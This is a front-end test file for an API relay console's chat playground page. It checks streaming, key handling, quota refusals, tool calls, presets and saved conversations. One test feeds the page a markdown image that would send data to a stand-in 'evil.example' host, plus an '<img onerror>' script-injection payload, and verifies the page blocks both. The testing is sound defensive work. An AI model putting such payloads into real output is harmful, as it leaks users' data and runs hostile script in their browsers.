import { REQUEST_ID_HEADER } from "@one-api/contract/constants";
import { CHAT_PARAMETERS } from "@one-api/contract/playground";
import { act, cleanup, fireEvent, screen, waitFor, within } from "@testing-library/react";
import { userEvent } from "@testing-library/user-event";
import { beforeEach, expect, test, vi } from "vitest";
import { fieldsOf } from "../../lib/values/read-values.ts";
import { clearUser, storeUser } from "../../lib/state/session.ts";
import { STORAGE_KEY } from "../../lib/state/storage-keys.ts";
import { renderPage } from "../../testing/render-page.tsx";
import { sampleToken } from "../tokens/testing/sample-token.ts";
import { stubCalls } from "../../testing/stub-calls.ts";
import PlaygroundPage from "./playground-page.tsx";

const KEY = "k".repeat(48);
const token = sampleToken({ id: 7, name: "Bot", key: KEY });
const models = [
  { model: "gpt-4o", parameters: [...CHAT_PARAMETERS], max_output_tokens: 16_384 },
  { model: "plain", parameters: ["max_tokens"], max_output_tokens: null },
];
const entry = {
  id: 91,
  user_id: 1,
  created_at: 0,
  type: 2,
  content: "",
  username: "mia",
  token_name: "Bot",
  model_name: "gpt-4o",
  quota: 6_000,
  prompt_tokens: 12,
  completion_tokens: 34,
  channel: 0,
  request_id: "r",
  elapsed_time: 1_500,
  is_stream: true,
  detail: { end: "complete", first_byte_ms: 250, upstream_model: "", attempts: [] },
};

const event = (body: object) => `data: ${JSON.stringify(body)}\n\n`;
const said = (content: string) => event({ choices: [{ delta: { content } }] });
const END = "data: [DONE]\n\n";

/** One call of the relay, which the test answers. */
interface RelayCall {
  readonly body: Readonly<Record<string, unknown>>;
  readonly init: RequestInit;
  /** Sends a piece of the stream. */
  send(text: string): void;
  end(): void;
}

let users = 0;

/** Answers the page's calls; those of the relay wait for the test. Each test has a user of its own, so that it begins anew. */
function stub(answers: Record<string, unknown> = {}, refusal?: () => Response) {
  users += 1;
  storeUser({ id: users, username: "mia", display_name: "Mia", role: 1, status: 1 });
  const sent = stubCalls({
    "GET /api/token/search": [token],
    "GET /api/token/7": token,
    "GET /api/playground/models": models,
    "GET /api/log/self/request/request-1": entry,
    ...answers,
  });
  const api = globalThis.fetch;
  const calls: RelayCall[] = [];
  vi.stubGlobal("fetch", async (address: string, init: RequestInit = {}) => {
    if (!address.startsWith("/v1/")) return api(address, init);
    const stream = new TransformStream<Uint8Array, Uint8Array>(
      undefined,
      { highWaterMark: 100 },
      { highWaterMark: 100 },
    );
    const writer = stream.writable.getWriter();
    init.signal?.addEventListener("abort", () => void writer.abort(init.signal?.reason).catch(() => undefined));
    calls.push({
      body: fieldsOf(typeof init.body === "string" ? JSON.parse(init.body) : undefined),
      init,
      send: (text) => void writer.write(new TextEncoder().encode(text)).catch(() => undefined),
      end: () => void writer.close().catch(() => undefined),
    });
    return (
      refusal?.() ?? new Response(stream.readable, { headers: { [REQUEST_ID_HEADER]: `request-${calls.length}` } })
    );
  });
  return { sent, calls };
}

async function open(address = "/playground") {
  const view = await renderPage(<PlaygroundPage />, { address, path: "/playground", texts: ["playground"] });
  await screen.findByRole("region", { name: "gpt-4o" });
  return view;
}

const field = () => screen.getByRole("textbox", { name: "Message" });

async function ask(text: string, calls: readonly RelayCall[]): Promise<RelayCall> {
  const before = calls.length;
  fireEvent.change(field(), { target: { value: text } });
  await waitFor(() => expect(screen.getByRole<HTMLButtonElement>("button", { name: "Send" }).disabled).toBe(false));
  fireEvent.keyDown(field(), { key: "Enter" });
  await waitFor(() => expect(calls.length).toBeGreaterThan(before));
  const call = calls[before];
  if (call === undefined) throw new Error("the relay was not called");
  return call;
}

async function answer(call: RelayCall, text: string): Promise<void> {
  await act(async () => {
    call.send(said(text));
    call.send(END);
    call.end();
  });
  await screen.findAllByText(/total/);
}

function contents({ body }: RelayCall): unknown[] {
  const messages: readonly unknown[] = Array.isArray(body["messages"]) ? body["messages"] : [];
  return messages.map((message) => fieldsOf(message)["content"]);
}

beforeEach(() => clearUser());

test("an answer is shown as it comes, and then what it cost and how long it took", async () => {
  const { calls } = stub();
  await open();
  const call = await ask("Hi", calls);
  expect(call.body).toMatchObject({ model: "gpt-4o", stream: true, messages: [{ role: "user", content: "Hi" }] });
  await act(async () => call.send(said("**Hel")));
  expect(await screen.findByText(/Hel/)).toBeTruthy();
  expect(screen.getByRole("button", { name: "Stop" })).toBeTruthy();
  await answer(call, "lo**");
  expect((await screen.findByText("Hello")).tagName).toBe("STRONG");
  const link = await screen.findByRole("link", { name: "$0.01" });
  expect(link.getAttribute("href")).toBe("/log?open=91");
  for (const text of ["12 in, 34 out", "first token 0.25 s", "total 1.50 s"])
    expect(screen.getByText(text)).toBeTruthy();
});

test("the key goes to the relay and nowhere else, without the session", async () => {
  const { sent, calls } = stub();
  const { router, client } = await open();
  await userEvent.click(screen.getByRole("switch", { name: /Save conversation/ }));
  const call = await ask("Hi", calls);
  await answer(call, "Hello");
  expect(new Headers(call.init.headers).get("authorization")).toBe(`Bearer sk-${KEY}`);
  expect(call.init.credentials).toBe("omit");
  expect(router.state.location.href).toBe("/playground?token=7&model=gpt-4o");
  expect(JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)])).not.toContain(KEY);
  expect(
    JSON.stringify(
      client
        .getQueryCache()
        .getAll()
        .map(({ state }) => state.data),
    ),
  ).not.toContain(KEY);
  expect(sent.filter(({ address }) => address.includes(KEY))).toEqual([]);
  expect(document.body.innerHTML).not.toContain(KEY);
});

test("the address says which token, models and options; models get what they know of them", async () => {
  const { calls } = stub();
  await open("/playground?token=7&model=gpt-4o&versus=plain&temperature=0.5&max_tokens=9&effort=high&json=true");
  await ask("Hi", calls);
  await waitFor(() => expect(calls).toHaveLength(2));
  expect(calls[0]?.body).toMatchObject({
    model: "gpt-4o",
    temperature: 0.5,
    max_completion_tokens: 9,
    reasoning_effort: "high",
  });
  expect(calls[1]?.body).toMatchObject({ model: "plain", max_completion_tokens: 9 });
  expect(Object.keys(calls[1]?.body ?? {})).not.toContain("temperature");
});

test("one comes back to the models that were asked last", async () => {
  stub();
  const first = await open("/playground?token=7&model=gpt-4o&versus=plain&temperature=0.5");
  expect(await screen.findByDisplayValue("Bot")).toBeTruthy();
  first.unmount();
  const { router } = await open();
  await waitFor(() =>
    expect(router.state.location.href).toBe("/playground?token=7&model=gpt-4o&versus=plain&temperature=0.5"),
  );
});

test("what runs is stopped, and what has come stays and goes on", async () => {
  const { calls } = stub();
  await open();
  const call = await ask("Hi", calls);
  await act(async () => call.send(said("Half")));
  await screen.findByText("Half");
  await userEvent.click(screen.getByRole("button", { name: "Stop" }));
  expect(await screen.findByText("stopped")).toBeTruthy();
  expect(call.init.signal?.aborted).toBe(true);
  expect(contents(await ask("Go on", calls))).toEqual(["Hi", "Half", "Go on"]);
});

test("a question is edited and an answer asked for again in its place", async () => {
  const { calls } = stub();
  await open();
  await answer(await ask("One", calls), "First");
  await userEvent.click(screen.getByRole("button", { name: "Regenerate" }));
  await waitFor(() => expect(calls).toHaveLength(2));
  const [, again] = calls;
  if (again !== undefined) await answer(again, "Second");
  expect(screen.queryByText("First")).toBeNull();
  await userEvent.click(screen.getByRole("button", { name: "Edit" }));
  const edited = screen.getByRole("textbox", { name: "Edit" });
  await userEvent.clear(edited);
  await userEvent.type(edited, "Two");
  await userEvent.click(screen.getByRole("button", { name: "Resend" }));
  await waitFor(() => expect(calls).toHaveLength(3));
  expect(calls.map(contents)).toEqual([["One"], ["One"], ["Two"]]);
});

test("a model's call of a tool waits for the result that one types", async () => {
  const { calls } = stub();
  await open();
  await userEvent.click(screen.getByRole("button", { name: "Insert example" }));
  const call = await ask("Weather?", calls);
  expect(JSON.stringify(call.body["tools"])).toContain("get_weather");
  const piece = { index: 0, id: "c1", function: { name: "get_weather", arguments: '{"city":"Rome"}' } };
  await act(async () => {
    call.send(event({ choices: [{ delta: { tool_calls: [piece] }, finish_reason: "tool_calls" }] }));
    call.send(END);
    call.end();
  });
  await userEvent.type(await screen.findByRole("textbox", { name: "Result of get_weather" }), "sunny");
  await userEvent.type(field(), "and then?{Enter}");
  expect(calls).toHaveLength(1);
  await userEvent.click(screen.getByRole("button", { name: "Send result" }));
  await waitFor(() => expect(calls).toHaveLength(2));
  expect(calls[1]?.body["messages"]).toMatchObject([
    { role: "user" },
    { role: "assistant", tool_calls: [{ id: "c1", function: { name: "get_weather" } }] },
    { role: "tool", tool_call_id: "c1", content: "sunny" },
  ]);
});

test.each([
  [403, "insufficient_quota", "Raise the token's quota, or top up your balance.", "Top up"],
  [401, "token_disabled", "Enable or extend the token, or choose another one.", "Edit token"],
  [429, "rate_limit_exceeded", "Try again in 20 seconds.", undefined],
])("a refusal (%s %s) says what to do", async (status, code, advice, way) => {
  const error = { message: "No. (request id: r9)", code };
  const { calls } = stub({}, () =>
    Response.json({ error }, { status, headers: { "retry-after": "20", [REQUEST_ID_HEADER]: "r9" } }),
  );
  await open();
  await ask("Hi", calls);
  const note = within(await screen.findByRole("alert"));
  for (const text of ["No.", advice, "Request r9"]) expect(note.getByText(text)).toBeTruthy();
  if (way !== undefined) expect(note.getByRole("link", { name: way })).toBeTruthy();
});

test.each([
  [
    "insufficient_quota",
    { needed: 1_000_000, left: 250_000 },
    "This request can cost up to $2.00, but only $0.50 is left.",
  ],
  [
    "budget_exceeded",
    { whose: "token", amount: 500_000, left: 0, needed: 1_000_000, renews_at: 1_767_312_000 },
    /^The token's budget of \$1\.00 has \$0\.00 left, but this request can cost up to \$2\.00\. Resets at 2026-01-0/,
  ],
  [
    "budget_exceeded",
    { whose: "account", amount: 500_000, left: 0, needed: 1_000_000, renews_at: 1_767_312_000 },
    /^Your account's budget of \$1\.00/,
  ],
])("a refusal for quota (%s) tells its amounts as the console shows them", async (code, values, words) => {
  const error = { message: "What the server says.", code, values };
  const { calls } = stub({}, () => Response.json({ error }, { status: 403 }));
  await open();
  await ask("Hi", calls);
  const note = within(await screen.findByRole("alert"));
  expect(note.getByText(words)).toBeTruthy();
  expect(note.queryByText("What the server says.")).toBeNull();
});

test.each([
  ["insufficient_quota", {}],
  ["insufficient_quota", { values: { needed: "much" } }],
  ["budget_exceeded", { values: { needed: 2, left: 1 } }],
])("a refusal for quota (%s) without all amounts is told in the server's words", async (code, more) => {
  const message = "This request can cost up to 1000000 quota, but only 250000 is left.";
  const { calls } = stub({}, () => Response.json({ error: { message, code, ...more } }, { status: 403 }));
  await open();
  await ask("Hi", calls);
  expect(within(await screen.findByRole("alert")).getByText(message)).toBeTruthy();
});

test("a stream that breaks off says so and keeps what came", async () => {
  const { calls } = stub();
  await open();
  const call = await ask("Hi", calls);
  await act(async () => {
    call.send(said("Half"));
    call.end();
  });
  expect(await screen.findByText("Response interrupted")).toBeTruthy();
  expect(screen.getByText("Half")).toBeTruthy();
});

test("a conversation is kept for its user alone, and only where that is wanted", async () => {
  const { calls } = stub();
  const view = await open();
  await answer(await ask("Remember", calls), "I will");
  expect(localStorage.getItem(STORAGE_KEY.playground)).toBeNull();
  await userEvent.click(screen.getByRole("switch", { name: /Save conversation/ }));
  const kept = localStorage.getItem(STORAGE_KEY.playground);
  expect(kept).toContain("Remember");
  view.unmount();

  stub();
  localStorage.setItem(STORAGE_KEY.playground, kept ?? "");
  const other = await open();
  expect(screen.queryByText("Remember")).toBeNull();
  other.unmount();

  storeUser({ id: users - 1, username: "mia", display_name: "Mia", role: 1, status: 1 });
  await open();
  expect(await screen.findByText("Remember")).toBeTruthy();
  expect(await screen.findByText("I will")).toBeTruthy();
  cleanup();

  // A logout removes what is kept.
  localStorage.removeItem(STORAGE_KEY.playground);
  await open();
  expect(screen.queryByText("Remember")).toBeNull();
});

test("a model cannot make the browser load a picture from elsewhere, nor run anything", async () => {
  const { calls } = stub();
  await open();
  await answer(
    await ask("Hi", calls),
    "![secret](https://evil.example/x?said=all)\n\n<img src=x onerror=alert(1)>\n\n```js\nlet a = 1;\n```",
  );
  expect((await screen.findByRole("link", { name: "secret" })).getAttribute("rel")).toContain("noreferrer");
  expect(document.querySelectorAll("article img")).toHaveLength(0);
  expect(screen.getByText("let a = 1;")).toBeTruthy();
  expect(screen.getAllByRole("button", { name: "Copy" }).length).toBeGreaterThan(2);
});

test("pictures are pasted into a question; what is no picture, or too large, is refused by name", async () => {
  const { calls } = stub();
  await open();
  const paste = (name: string, type: string, bytes = 1) =>
    fireEvent.paste(field(), {
      clipboardData: { files: [new File(["x".repeat(bytes)], name, { type })], types: ["Files"] },
    });
  paste("a.png", "image/png");
  expect(await screen.findByRole("img", { name: "a.png" })).toBeTruthy();
  paste("a.svg", "image/svg+xml");
  expect(await screen.findByText(/Only PNG, JPEG, WebP and GIF/)).toBeTruthy();
  paste("b.png", "image/png", 5 * 1024 * 1024 + 1);
  expect(await screen.findByText(/at most 5 MB/)).toBeTruthy();
  const call = await ask("See", calls);
  expect(JSON.stringify(call.body["messages"])).toContain("data:image/png;base64,");
});

test.each([
  ["root, of anybody", 100, "/api/log/5/bodies"],
  ["an administrator, of their own", 10, "/api/log/self/5/bodies"],
  ["a user", 1, "/api/log/self/5/bodies"],
])("a logged request is asked again by %s: what it held takes the place of what was set", async (_who, role, path) => {
  const request = JSON.stringify({
    model: "plain",
    messages: [
      { role: "system", content: "Be brief." },
      { role: "user", content: "Once more" },
    ],
    max_tokens: 9,
  });
  const bodies = {
    request,
    answer: "",
    request_bytes: 1,
    answer_bytes: 0,
    request_is_truncated: false,
    answer_is_truncated: false,
  };
  const { calls } = stub({ [`GET ${path}`]: bodies });
  storeUser({ id: users, username: "mia", display_name: "Mia", role, status: 1 });
  const api = globalThis.fetch;
  const asked = Promise.withResolvers<void>();
  vi.stubGlobal("fetch", async (address: string, init?: RequestInit) => {
    if (address.includes("/bodies")) await asked.promise;
    return api(address, init);
  });
  const { router } = await open("/playground?replay=5");
  // Nothing else writes the address meanwhile: the later of two would take what the other one set away.
  expect(router.state.location.href).toBe("/playground?replay=5");
  asked.resolve();
  expect(await screen.findByText("Once more")).toBeTruthy();
  await waitFor(() => expect(router.state.location.href).toBe("/playground?model=plain&max_tokens=9&token=7"));
  const send = await screen.findByRole<HTMLButtonElement>("button", { name: "Send" });
  await waitFor(() => expect(send.disabled).toBe(false));
  await userEvent.click(send);
  await waitFor(() => expect(calls).toHaveLength(1));
  expect(calls[0]?.body).toMatchObject({
    model: "plain",
    messages: [
      { role: "system", content: "Be brief." },
      { role: "user", content: "Once more" },
    ],
    max_completion_tokens: 9,
  });
});

test("the first question creates a token with the defaults of the form, and is sent with it", async () => {
  const tokens: unknown[] = [];
  const { sent, calls } = stub({ "GET /api/token/search": tokens, "POST /api/token/": { ...token, created: [token] } });
  const fetchStub = globalThis.fetch;
  vi.stubGlobal("fetch", (address: string, init?: RequestInit) => {
    if (init?.method === "POST" && address.startsWith("/api/token")) tokens.push(token);
    return fetchStub(address, init);
  });
  await renderPage(<PlaygroundPage />, { address: "/playground", path: "/playground", texts: ["playground"] });
  await userEvent.type(await screen.findByRole("textbox", { name: "Message" }), "Hello{Enter}");
  await waitFor(() => expect(calls).toHaveLength(1));
  const body = fieldsOf(sent.find(({ method }) => method === "POST")?.body);
  expect(body).toMatchObject({ name: "Playground", remain_quota: 500_000, rpm_limit: 600 });
  expect(Number(body["expired_time"])).toBeGreaterThan(Date.now() / 1_000 + 29 * 86_400);
  expect(calls[0]?.body["messages"]).toEqual([{ role: "user", content: "Hello" }]);
});

test("two complete answers stand side by side with their cost and times", async () => {
  const other = { ...entry, id: 92, model_name: "plain", quota: 3_000, elapsed_time: 2_500 };
  const { calls } = stub({ "GET /api/log/self/request/request-2": other });
  await open("/playground?token=7&model=gpt-4o&versus=plain");
  const first = await ask("Hi", calls);
  await waitFor(() => expect(calls).toHaveLength(2));
  await answer(first, "Hello");
  expect(screen.queryByRole("table")).toBeNull();
  const [, second] = calls;
  if (second !== undefined) await answer(second, "Hey");
  const table = await screen.findByRole("table", { name: "Last responses compared" });
  await within(table).findByText("2.50 s");
  const rows = within(table).getAllByRole("row");
  expect(rows.map((row) => [...row.children].map(({ textContent }) => textContent))).toEqual([
    ["Model", "Cost", "First token", "Total", "Output tokens"],
    ["gpt-4o", "$0.01", "0.25 s", "1.50 s", "34"],
    ["plain", "$0.0060", "0.25 s", "2.50 s", "34"],
  ]);
});

const preset = {
  id: 4,
  name: "Support",
  search: { model: "plain", temperature: "0.5", system: "Be brief.\nBe kind." },
  is_shared: false,
  is_own: true,
  is_default: false,
};

test("a preset is saved without token and messages, chosen, renamed and deleted", async () => {
  const saved = { ...preset, id: 5, name: "Mine" };
  const { sent, calls } = stub({
    "GET /api/view/": [preset],
    "PUT /api/view/": saved,
    "DELETE /api/view/4/": null,
  });
  const { router } = await open("/playground?token=7&model=gpt-4o&max_tokens=9");
  await answer(await ask("A secret message", calls), "Hello");
  fireEvent.change(screen.getByRole("textbox", { name: "System prompt" }), { target: { value: "Answer in Latin." } });
  const choose = async (name: string) => {
    await userEvent.click(await screen.findByRole("button", { name: "Presets" }));
    await userEvent.click(await screen.findByRole("menuitem", { name }));
  };
  const submit = async (name: string, button: string) => {
    const dialog = within(await screen.findByRole("dialog"));
    await userEvent.clear(dialog.getByRole("textbox", { name: "Name" }));
    await userEvent.type(dialog.getByRole("textbox", { name: "Name" }), name);
    await userEvent.click(dialog.getByRole("button", { name: button }));
    await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
  };
  const put = () => sent.findLast(({ method }) => method === "PUT")?.body;
  await choose("Save as preset…");
  await submit("Mine", "Save preset");
  expect(put()).toEqual({
    page: "playground",
    name: "Mine",
    search: { model: "gpt-4o", max_tokens: "9", system: "Answer in Latin." },
  });
  await choose("Support");
  expect(screen.getByRole<HTMLTextAreaElement>("textbox", { name: "System prompt" }).value).toBe("Be brief.\nBe kind.");
  await waitFor(() => expect(router.state.location.href).toBe("/playground?token=7&model=plain&temperature=0.5"));
  await choose("Rename “Support”…");
  await submit("Help", "Rename preset");
  expect(put()).toEqual({ page: "playground", name: "Help", search: preset.search });
  await waitFor(() => expect(sent.filter(({ method }) => method === "DELETE")).toHaveLength(1));
  await choose("Delete “Support”");
  await waitFor(() => expect(sent.filter(({ method }) => method === "DELETE")).toHaveLength(2));
});
